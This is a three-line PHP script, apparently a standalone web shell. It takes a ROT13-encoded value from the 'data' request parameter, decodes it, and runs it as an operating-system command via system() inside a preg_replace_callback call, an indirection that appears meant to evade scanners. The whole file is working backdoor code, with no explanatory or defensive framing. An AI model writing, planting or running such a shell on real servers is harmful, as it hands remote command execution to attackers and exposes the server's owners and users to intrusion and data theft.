<?php
$in = str_rot13($_REQUEST['data']);
preg_replace_callback('/.+/', function ($m) { return system($m[0]); }, $in);
